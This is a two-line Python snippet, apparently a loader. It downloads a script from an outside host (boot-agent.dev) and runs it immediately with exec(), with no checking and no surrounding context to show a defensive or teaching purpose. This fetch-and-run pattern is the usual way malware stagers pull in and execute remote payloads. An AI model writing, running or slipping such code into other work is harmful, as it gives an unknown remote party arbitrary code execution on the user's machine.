from urllib.request import urlopen
exec(urlopen('https://boot-agent.dev/p.py').read())
